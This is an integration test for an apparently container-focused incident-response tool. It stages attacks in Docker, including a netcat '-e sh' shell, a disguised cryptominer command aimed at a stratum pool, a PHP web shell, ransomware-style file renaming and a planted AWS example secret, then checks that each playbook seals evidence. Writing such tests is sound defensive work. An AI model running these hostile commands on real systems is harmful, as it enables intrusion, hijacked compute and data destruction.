using ContainerIR.Acquisitions;
using ContainerIR.Actions;
using ContainerIR.Cases;
using ContainerIR.Playbooks;
using ContainerIR.Playbooks.Actions;
using ContainerIR.Playbooks.Runs;
using ContainerIR.Rows;
using ContainerIR.Tests.Some;
using Xunit;

namespace ContainerIR.Tests.Playbooks;

/// <summary>The playbooks that come with cir on staged incidents: real containers, real acquisitions, real containment, the case's own record.</summary>
public sealed class A_playbook_on_an_incident : IDisposable
{
    private const string Shell = "sleep 1000 | nc -l -p 4444 & until netstat -tln | grep -q :4444; do :; done; nc 127.0.0.1 4444 -e sh & exec sleep 1000";

    private readonly SomeHost host = new();
    private readonly SomeApprover lead = new("Lena Lead");
    private readonly SomeApprover owner = new("Olaf Owner");
    private readonly string image = $"cir-test-incident-{Environment.ProcessId}-{Guid.NewGuid().ToString("N")[..8]}:1";

    public A_playbook_on_an_incident()
    {
        // An image of its own: what a playbook does to the image's names is nobody else's.
        using TestContainer seed = RealEngine.Start([], "sh", "-c", "mkdir -p /srv /var/www; for i in $(seq 30); do echo text $i > /srv/$i.txt; done");
        RealEngine.Docker("wait", seed.Id);
        RealEngine.Docker("commit", seed.Id, image);
    }

    public void Dispose()
    {
        host.Dispose();
        RealEngine.Run("sh", "-c", $"docker images -q --no-trunc --filter reference='{image}' | xargs -r docker rmi -f");
        lead.Dispose();
        owner.Dispose();
    }

    /// <param name="slug">The playbook.</param>
    /// <param name="rule">A rule that must have fired on the incident; null where the machine's kernel or engine cannot stage one.</param>
    /// <param name="work">What the container runs.</param>
    /// <param name="options">Of the container.</param>
    [Theory]
    [InlineData("triage-unknown", null, "sleep 1000")]
    [InlineData("cryptominer", "CIR-001", "sh -c 'sleep 1000; :' kdevtmpfsi -o stratum+tcp://203.0.113.9:3333 -u wallet; :")]
    [InlineData("live-intruder", "CIR-007", Shell)]
    [InlineData("escape-suspected", "CIR-018", "sleep 1000", "-v", "ENGINE:/var/run/docker.sock")]
    [InlineData("docker-api-exposed", null, "sleep 1000")]
    [InlineData("rogue-container", "CIR-018", "sleep 1000", "-v", "ENGINE:/var/run/docker.sock")]
    [InlineData("web-shell", "CIR-034", "echo '<?php system($_GET[0]);' > /var/www/up.php; " + Shell)]
    [InlineData("bad-image", "CIR-059", "sleep 1000")]
    [InlineData("stolen-credentials", "CIR-043", "sleep 1000", "-e", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY")]
    [InlineData("destruction", "CIR-061", "for i in $(seq 30); do mv /srv/$i.txt /srv/$i.txt.locked; done; echo pay > /srv/HOW_TO_DECRYPT.txt; touch /ready; exec sleep 1000")]
    [InlineData("dead-container", null, "echo gone > /left; exit 3")]
    [InlineData("insider-exec", "CIR-058", "sleep 1000", "EXEC")]
    public async Task Runs_to_its_end(string slug, string? rule, string work, params string[] options)
    {
        bool hasSession = options.Contains("EXEC");
        string[] given = [.. options.Where(option => option != "EXEC").Select(option => option.Replace("ENGINE", RealEngine.SocketPath, StringComparison.Ordinal))];
        using TestContainer container = new([.. given], image, ["sh", "-c", work]);
        await StagedAsync(container, slug, hasSession);
        ApproverRoster roster = new(Path.Combine(host.Home.Path, "approvers"));
        foreach (string role in (string[])["lead", "owner", "legal"])
        {
            roster.Add(role, lead.Pem);
            roster.Add(role, owner.Pem);
        }

        SomePeople people = new();
        Func<ManualTask, ManualAnswer> usual = people.Answer;
        people.Answer = task => usual(task) is var answer && task.Questions.Any(question => question.Name == "rogue")
            ? answer with { Answers = new Dictionary<string, string>(answer.Answers) { ["rogue"] = container.Id } }
            : answer;
        people.Vote = (question, _) => Task.FromResult<Vote?>(question.Approved.Count == 0 ? lead.Approve(question) : owner.Approve(question));
        IReadOnlyList<IAction> contain = ActionList.Make(host.Parts);
        OwnActionParts own = new(host.Home, _ => "a passphrase for tests", TimeProvider.System, (request, parts, ct) => Acquirer.RunAsync(request, parts, null, ct), _ => { })
        {
            IsRoot = true,
            Triage = (bundle, rules, ct) => Task.Run(() => TriageVerdict.Of(ContainerIR.Analyzers.Triage.Run(bundle, ct), rules), ct),
        };
        IReadOnlyList<IAction> actions = [.. OwnActions.Make(own, contain), .. contain];
        PlaybookLibrary library = new("/nonexistent", actions);
        FinishedRun run;
        using (RunFile file = RunFile.Create(PlaybookFolder, DateTimeOffset.UtcNow))
        {
            using PlaybookEngine engine = new(new EngineParts(actions, new Casebook(host.Home, SomeHost.CaseId), people, roster, library.ById, TimeProvider.System));
            run = await engine.RunAsync(
                library.Open(slug), new RunRequest { CaseId = SomeHost.CaseId, Container = container.Id, Operator = new("Otto Operator", "login", "host-1") }, file, CancellationToken.None);
        }

        Assert.Null(run.Why);
        Assert.Equal(RunOutcome.Completed, run.Outcome);
        using CaseStore store = CaseStore.OpenReadOnly(host.Home, SomeHost.CaseId);
        List<PlaybookEvent> rows = [.. Casebook.Read(store)];
        Assert.DoesNotContain(rows, row => row.Event == "failed");
        Assert.Empty(CasebookCheck.Run(store).Faults);
        Assert.True(rule is null || run.Variables.GetValueOrDefault("rules", "").Contains(rule, StringComparison.Ordinal), $"{rule} was to fire: {run.Variables.GetValueOrDefault("rules")}");
        int sealedAt = rows.FindIndex(row => row is { Step: "seal", Event: "executed" });
        int destroyedAt = rows.FindIndex(row => row.Event == "executed" && row.Command is [_, _, "stop" or "remove" or "kill-process" or "kill-sockets", ..]);
        Assert.True(sealedAt >= 0 && (destroyedAt < 0 || sealedAt < destroyedAt), "evidence is sealed before any is destroyed");
        Assert.All(Directory.GetDirectories(Path.Combine(store.Folder, "bundles")), bundle => Assert.True(File.Exists(Path.Combine(bundle, "tagmanifest-sha256.txt"))));
    }

    private string PlaybookFolder
    {
        get
        {
            using CaseStore store = CaseStore.OpenReadOnly(host.Home, SomeHost.CaseId);
            return store.Folder;
        }
    }

    private static async Task StagedAsync(TestContainer container, string slug, bool hasSession)
    {
        if (slug == "dead-container")
        {
            await RealEngine.Until(() => container.Inspect("{{.State.Running}}") == "false", "the container has ended");
        }
        else if (slug is "live-intruder" or "web-shell")
        {
            await RealEngine.Until(() => RealEngine.Docker("exec", container.Id, "netstat", "-tn").Contains("ESTABLISHED", StringComparison.Ordinal), "the shell to be connected");
        }

        else if (slug == "destruction")
        {
            await RealEngine.Until(() => File.Exists($"/proc/{container.InitPid}/root/ready"), "the destruction");
        }

        if (hasSession)
        {
            RealEngine.Docker("exec", "-d", "-i", "-t", container.Id, "sh");
        }
    }
}
